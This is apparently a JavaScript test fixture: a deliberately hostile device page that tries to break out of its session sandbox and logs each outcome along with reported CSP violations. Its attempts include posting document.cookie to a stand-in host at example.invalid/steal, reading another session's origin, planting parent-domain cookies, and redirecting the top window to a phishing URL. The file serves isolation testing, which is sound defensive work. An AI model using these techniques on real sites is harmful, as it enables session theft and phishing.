// A device page that tries to leave its session (see hostile.go). Every
// attempt records its outcome; the CSP violations the browser reports are
// collected as they come.
"use strict";
(function () {
  const out = { violations: [], attempts: {}, done: false };
  window.__evil = out;
  const show = () => { document.getElementById("results").textContent = JSON.stringify(out, null, 2); };
  document.addEventListener("securitypolicyviolation", (e) => {
    out.violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, disposition: e.disposition });
    show();
  });
  const t = document.getElementById("targets").dataset;
  const record = (name, p) => p.then(
    (v) => { out.attempts[name] = { ok: true, value: String(v).slice(0, 200) }; show(); },
    (e) => { out.attempts[name] = { ok: false, error: String(e && e.name) + ": " + String(e && e.message) }; show(); });

  // 1. The app's API, with the technician's cookies if the browser would send them.
  const api = record("appAPI", fetch(t.api, { credentials: "include" }).then((r) => r.status + " " + r.type));
  // 2. Another session's origin: by fetch, and by a frame whose document we try to read.
  const other = record("otherSessionFetch", fetch(t.other + "/__t/shell.js", { credentials: "include" }).then((r) => r.text()));
  const frame = record("otherSessionFrame", new Promise((resolve, reject) => {
    const f = document.createElement("iframe");
    f.hidden = true;
    f.src = t.other + "/";
    document.body.append(f);
    setTimeout(() => {
      try {
        resolve(f.contentWindow.document.body.innerHTML);
      } catch (e) {
        reject(e);
      }
    }, 500);
  }));
  // 3. A form posted off the device, into a hidden frame.
  const form = record("formPost", new Promise((resolve, reject) => {
    const fm = document.createElement("form");
    fm.method = "post";
    fm.action = "http://example.invalid/steal";
    fm.target = "sink";
    const i = document.createElement("input");
    i.name = "loot";
    i.value = document.cookie;
    fm.append(i);
    document.body.append(fm);
    try {
      fm.submit();
      setTimeout(() => resolve("submitted"), 300);
    } catch (e) {
      reject(e);
    }
  }));
  // 4. A cookie for the parent domain, to reach every other session.
  const parent = location.hostname.split(".").slice(1).join(".");
  const cookie = record("parentCookie", new Promise((resolve) => {
    document.cookie = "tossed=1; domain=" + parent + "; path=/";
    document.cookie = "tossed_dot=1; domain=." + parent + "; path=/";
    resolve(document.cookie.includes("tossed") ? "set: " + document.cookie : "refused: " + document.cookie);
  }));
  // 5. The top window, to replace the session shell.
  const top = record("topNavigation", new Promise((resolve, reject) => {
    try {
      window.top.location.href = "http://example.invalid/phish";
      resolve("navigated");
    } catch (e) {
      reject(e);
    }
  }));
  Promise.allSettled([api, other, frame, form, cookie, top]).then(() => {
    setTimeout(() => { out.done = true; show(); }, 300);
  });
})();
